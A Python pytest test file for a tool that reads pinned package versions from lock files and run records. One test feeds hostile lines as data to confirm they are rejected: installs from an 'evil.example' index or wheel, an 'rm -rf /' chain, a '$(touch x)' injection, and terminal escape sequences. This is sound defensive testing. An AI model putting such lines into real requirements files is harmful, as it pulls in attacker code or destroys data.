"""What lists pin, and what of a hostile one is used: names and versions only."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from packaging.version import Version

from canary.baseline.history import Context, save
from canary.bisect.packages import Pins, changes_between, read_pins, releases_between
from canary.errors import InputError, UsageError
from tests.unit.comparing import altered, example, record, write


def pins_of(tmp_path: Path, text: str, name: str = "lock.txt") -> dict[str, str]:
    """The pinned versions of a file with this content."""
    return as_text(read(tmp_path, text, name))


def read(tmp_path: Path, text: str, name: str = "lock.txt") -> Pins:
    path = tmp_path / name
    path.write_text(text, "utf-8")
    return read_pins(path)


def as_text(pins: Pins) -> dict[str, str]:
    return {name: str(version) for name, version in pins.versions.items()}


def test_requirements_with_hashes_comments_and_markers(tmp_path: Path) -> None:
    text = """# from pip-compile
Torch==2.13.0+cpu \\
    --hash=sha256:aaaa \\
    --hash=sha256:bbbb
trl == 1.15.0  # via us
gone==1.0 ; python_version < "3"
kept[extra]==2.0.0rc1; python_version >= "3"
"""
    assert pins_of(tmp_path, text) == {"torch": "2.13.0+cpu", "trl": "1.15.0", "kept": "2.0.0rc1"}


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "-r other.txt",
        "-e git+https://evil.example/x#egg=x",
        "evil @ https://evil.example/evil.whl",
        "./evil.whl",
        "evil; rm -rf /",
        "evil==1.0 --global-option=x",
        "$(touch x)==1",
        "evil>=1.0",
        "evil==1.*",
        "evil===anything",
    ],
)
def test_a_line_that_pins_no_release_is_told_and_not_used(tmp_path: Path, line: str) -> None:
    found = read(tmp_path, f"trl==1.0\n{line}\n")
    assert as_text(found) == {"trl": "1.0"}
    assert "left out, because they pin no release: " in found.left_out


def test_a_file_without_a_pin_is_an_error_that_says_why(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"pins no package; left out, .*: -e \."):
        read(tmp_path, "-e .\n")


def test_names_in_control_characters_do_not_reach_a_terminal(tmp_path: Path) -> None:
    assert read(tmp_path, "trl==1.0\n\x1b[2Jcleared>=\x07\n").left_out.isprintable()


def test_a_toml_lock_is_refused_with_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="uv export --frozen"):
        read(tmp_path, "version = 1", "uv.lock")


def test_a_record_pins_what_its_run_imported(tmp_path: Path) -> None:
    packages = {"torch": "2.13.0+cpu", "trl": None, "rlhf-canary": "0.1.0", "odd": "not a version"}
    made = altered(example(), "env", "packages", to=packages)
    path = write(tmp_path / "run" / "metrics.json", made)
    for name in (path, path.parent):
        found = read_pins(name)
        assert as_text(found) == {"torch": "2.13.0+cpu"}
        assert found.record is not None
        assert found.left_out.endswith("pin no release: odd")


@pytest.mark.skipif(sys.platform == "win32", reason="pipes")
def test_a_pipe_or_a_large_file_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(InputError, match="not a regular file"):
        read_pins(tmp_path / "pipe")
    with (tmp_path / "large").open("wb") as file:
        file.truncate(1 << 30)
    with pytest.raises(InputError, match="larger than"):
        read_pins(tmp_path / "large")
    with pytest.raises(InputError, match="cannot read"):
        read_pins(tmp_path / "none.txt")


def test_a_file_of_a_history_is_a_record(tmp_path: Path) -> None:
    """`canary compare` names it where the baseline is a history."""
    run = record(1)
    run.env["packages"] = {"torch": "2.6.0", "trl": "1.0.0", "peft": None}
    pins = read_pins(save(tmp_path, run, context=Context(commit="a" * 40)))
    assert as_text(pins) == {"torch": "2.6.0", "trl": "1.0.0"}
    assert pins.record is not None


def test_suspects_are_what_differs_and_a_record_knows_only_what_was_imported(
    tmp_path: Path,
) -> None:
    good = read(tmp_path, "trl==1.0\nextra==1.0\nodd==3.0\n", "good.txt")
    bad = read(tmp_path, "trl==1.1\nodd==3.0\n", "bad.txt")
    changed, fixed = changes_between(good, bad)
    assert [str(one) for one in changed] == ["extra 1.0 -> not installed", "trl 1.0 -> 1.1"]
    assert {name: str(one) for name, one in fixed.items()} == {"odd": "3.0"}
    imported = Pins(good.source, bad.versions, record=record(1))
    changed, fixed = changes_between(good, imported)
    assert [one.name for one in changed] == ["trl"]
    assert "extra" in fixed, "every run has it"
    with pytest.raises(UsageError, match="have the same packages"):
        changes_between(good, good)


KNOWN = "1.0 1.1 1.2rc1 1.2 1.10 1.9 2.0 2.0.dev20260101 2.0.dev20260203 2.1"


@pytest.mark.parametrize(
    ("good", "bad", "known", "between"),
    [
        ("1.0", "2.0", KNOWN, "1.0 1.1 1.2 1.9 1.10 2.0"),
        ("2.0", "1.2", KNOWN, "2.0 1.10 1.9 1.2"),
        ("1.0", "1.2rc1", KNOWN, "1.0 1.1 1.2rc1"),
        ("1.10", "2.0.dev20260203", KNOWN, "1.10 2.0.dev20260101 2.0.dev20260203"),
        ("1.0", "3.0", "1.1", "1.0 1.1 3.0"),
        ("1.0+cpu", "1.2+cpu", "1.0+cpu 1.1 1.1+cpu 1.1+cu126 1.2", "1.0+cpu 1.1+cpu 1.2+cpu"),
        ("1.0.0", "2.0", "1.0 1.5 2.0.0", "1.0.0 1.5 2.0"),
    ],
)
def test_versions_between(good: str, bad: str, known: str, between: str) -> None:
    found = releases_between(Version(good), Version(bad), [Version(one) for one in known.split()])
    assert " ".join(map(str, found)) == between
